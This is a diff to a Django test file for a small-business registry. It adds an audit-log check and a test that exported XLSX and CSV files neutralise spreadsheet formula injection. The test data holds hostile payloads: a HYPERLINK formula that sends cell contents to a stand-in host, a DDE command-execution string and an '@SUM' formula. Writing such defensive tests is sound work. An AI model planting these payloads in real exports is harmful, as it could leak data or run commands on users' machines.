@@ -38,6 +38,7 @@ def test_signup_creates_account_owner_and_logs_in(client, areas):
     assert owner.user.phone == "+6281211112222"
     assert owner.user.groups.filter(name="pemilik_umkm").exists()
     assert AuditEntry.objects.filter(action="registry.owner.created").exists()
+    assert AuditEntry.objects.filter(action="accounts.user.signed_up", object_id=str(owner.user.pk)).exists()
 
 
 def test_signup_with_taken_nik_says_so_and_keeps_input(client, areas):
@@ -278,3 +279,23 @@ def test_the_owner_form_never_shows_the_full_nik_and_a_blank_nik_keeps_it(staff_
     assert owner.full_name == "Nama Dikoreksi" and owner.nik == nik
     entry = AuditEntry.objects.get(action=Event.OWNER_UPDATED, object_id=str(owner.pk))
     assert entry.changes == {"full_name": [old_name, "Nama Dikoreksi"]}
+
+
+def test_hostile_names_come_out_of_the_exports_as_inert_text(client, admin_user, areas):
+    import io
+
+    from openpyxl import load_workbook
+
+    hostile = '=HYPERLINK("http://x.example/?"&D2,"klik")'
+    BusinessFactory(name=hostile, owner__full_name="+cmd|' /C calc'!A0", address="@SUM(1)")
+    client.force_login(admin_user)
+    response = client.get(reverse("registry:business_export", args=["xlsx"]), {"pribadi": "1"})
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
+    assert {c.value for c in cells} >= {hostile, "+cmd|' /C calc'!A0", "@SUM(1)"}
+    assert all(c.data_type == "s" for c in cells)
+    csv_text = b"".join(
+        client.get(reverse("registry:business_export", args=["csv"])).streaming_content
+    ).decode()
+    assert "'=HYPERLINK" in csv_text and "'+cmd" in csv_text and "'@SUM(1)" in csv_text
+    assert ',"=HYPERLINK' not in csv_text and ",=HYPERLINK" not in csv_text
